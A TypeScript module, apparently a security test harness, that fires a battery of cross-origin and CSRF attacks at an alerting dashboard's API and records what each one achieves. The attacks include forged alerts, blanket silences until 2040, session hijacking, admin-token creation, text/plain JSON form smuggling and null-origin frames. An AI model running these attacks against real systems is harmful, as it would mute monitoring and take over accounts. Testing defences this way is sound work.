/** What each attack came to: `nothing`, or what it got. */
export type Outcomes = Readonly<Record<string, string>>

export interface Target {
  readonly url: string
  /** A good token, the attacker's own. */
  readonly token: string
  /** The attacker's server. */
  readonly elsewhere: string
}

/**
 * Everything that a page of another origin may try with what its browser carries. Runs in that page, so it uses nothing
 * from outside of itself.
 */
export async function everyAttack({ url, token, elsewhere }: Target): Promise<Outcomes> {
  const outcomes: Record<string, string> = {}
  const attempt = async (name: string, run: () => Promise<string>): Promise<void> => {
    outcomes[name] = await run().catch(() => 'nothing')
  }
  const reach = async (path: string, init: RequestInit = {}): Promise<string> => {
    const answer = await fetch(`${url}${path}`, { credentials: 'include', ...init })
    return `${answer.type} ${answer.status} ${(await answer.text()).slice(0, 40)}`
  }
  const alert = '[{"labels":{"alertname":"Forged"}}]'
  const silence =
    '{"matchers":[{"name":"a","value":".+","isRegex":true}],"startsAt":"2020-01-01T00:00:00Z","endsAt":"2040-01-01T00:00:00Z","createdBy":"x","comment":"x"}'
  const json = { 'content-type': 'application/json' }
  const plain = { method: 'POST', mode: 'no-cors' } as const

  for (const path of [
    '/api/v2/board',
    '/api/v2/alerts',
    '/api/v2/session',
    '/api/v2/credentials',
    '/metrics',
  ]) {
    await attempt(`read ${path}`, () => reach(path))
    await attempt(`read ${path} unseen`, () => reach(path, { mode: 'no-cors' }))
  }
  await attempt('poll', () => reach('/api/v2/events?wait=0'))
  await attempt('post', () => reach('/api/v2/alerts', { method: 'POST', headers: json, body: alert }))
  await attempt('post without a question', () => reach('/api/v2/alerts', { ...plain, body: alert }))
  await attempt('post as a blob', () =>
    reach('/api/v2/alerts', { ...plain, body: new Blob([alert], { type: 'text/plain;application/json' }) }),
  )
  await attempt('silence', () => reach('/api/v2/silences', { ...plain, body: silence }))
  await attempt('silence with a question', () =>
    reach('/api/v2/silences', { method: 'POST', headers: json, body: silence }),
  )
  await attempt('reload', () => reach('/-/reload', plain))
  await attempt('webhook', () => reach('/api/v2/webhooks/generic', { ...plain, body: '{"name":"Forged"}' }))
  await attempt('sign out', () => reach('/api/v2/session', { method: 'DELETE' }))
  await attempt('sign in as another', () =>
    reach('/api/v2/session', { ...plain, body: JSON.stringify({ token }) }),
  )
  await attempt('make a token', () =>
    reach('/api/v2/credentials', { method: 'POST', headers: json, body: '{"name":"x","role":"admin"}' }),
  )
  await attempt('make a link', () => reach('/api/v2/join-links', { ...plain, body: '{}' }))
  await attempt('method override', () =>
    reach('/api/v2/session?_method=DELETE', { ...plain, body: '_method=DELETE' }),
  )
  for (const path of ['/api/v2/alerts', '/api/v2/session', '/-/reload'])
    await attempt(`sent on to ${path}`, async () => {
      const answer = await fetch(`${elsewhere}/on?to=${encodeURIComponent(url + path)}`, {
        ...plain,
        credentials: 'include',
        body: alert,
      })
      return answer.type
    })
  await attempt('beacon', async () => {
    navigator.sendBeacon(`${url}/api/v2/alerts`, alert)
    navigator.sendBeacon(`${url}/-/reload`)
    return 'nothing'
  })
  await attempt('XMLHttpRequest', () => {
    const { promise, resolve } = Promise.withResolvers<string>()
    const asked = new XMLHttpRequest()
    asked.withCredentials = true
    asked.open('GET', `${url}/api/v2/board`)
    asked.onloadend = () => resolve(asked.responseText === '' ? 'nothing' : asked.responseText.slice(0, 40))
    asked.send()
    return promise
  })

  for (const path of ['/api/v2/alerts', '/api/v2/silences', '/api/v2/session', '/sign-in/token', '/-/reload'])
    await attempt(`form into a frame: ${path}`, async () => {
      const [frame, form] = [document.createElement('iframe'), document.createElement('form')]
      const field = document.createElement('input')
      Object.assign(frame, { name: `frame${path}` })
      Object.assign(form, { method: 'POST', action: url + path, enctype: 'text/plain', target: frame.name })
      Object.assign(field, { name: `{"token":"${token}","x":"`, value: '"}' })
      form.append(field)
      document.body.append(frame, form)
      const { promise, resolve } = Promise.withResolvers<void>()
      form.submit()
      frame.onload = () => resolve()
      await promise
      return frame.contentDocument?.body.innerText || 'nothing'
    })

  const ended = (target: EventTarget, good: string): Promise<string> => {
    const { promise, resolve } = Promise.withResolvers<string>()
    target.addEventListener(good, () => resolve(good))
    target.addEventListener('error', () => resolve('nothing'))
    return promise
  }
  await attempt('EventSource', () =>
    ended(new EventSource(`${url}/api/v2/events/stream`, { withCredentials: true }), 'open'),
  )
  await attempt('WebSocket', () => ended(new WebSocket(`${url.replace('http', 'ws')}/ws/dashboard`), 'open'))
  const load = (tag: string, member: string, path: string): Promise<string> => {
    const element = document.createElement(tag)
    Object.assign(element, { rel: 'stylesheet', [member]: `${url}${path}` })
    const loaded = ended(element, tag === 'video' ? 'loadedmetadata' : 'load')
    document.head.append(element)
    return loaded
  }
  await attempt('image', () => load('img', 'src', '/icon.svg'))
  await attempt('script', () => load('script', 'src', '/api/v2/board'))
  await attempt('style', () => load('link', 'href', '/api/v2/board'))
  await attempt('video', () => load('video', 'src', '/api/v2/events/stream'))
  await attempt('service worker', async () => {
    await navigator.serviceWorker.register(`${url}/assets/x.js`)
    return 'registered'
  })
  await attempt('worker', async () => ended(new Worker(`${url}/assets/x.js`), 'message'))
  return outcomes
}

/** The same in a frame without an origin: its requests say `Origin: null`. */
export async function frameAttack(
  target: Target & { readonly place: 'sandboxed frame' | 'data: frame'; readonly attack: string },
): Promise<Outcomes> {
  const { promise, resolve } = Promise.withResolvers<Outcomes>()
  addEventListener('message', ({ data }) => resolve(data as Outcomes))
  const words = JSON.stringify(target)
  const page = `<!doctype html><head></head><body><script>(${target.attack})(${words}).then((all) => parent.postMessage(all, '*'))</scr${''}ipt>`
  const frame = document.createElement('iframe')
  if (target.place === 'data: frame') frame.src = `data:text/html,${encodeURIComponent(page)}`
  else {
    frame.setAttribute('sandbox', 'allow-scripts allow-forms')
    frame.srcdoc = page
  }
  document.body.append(frame)
  return promise
}
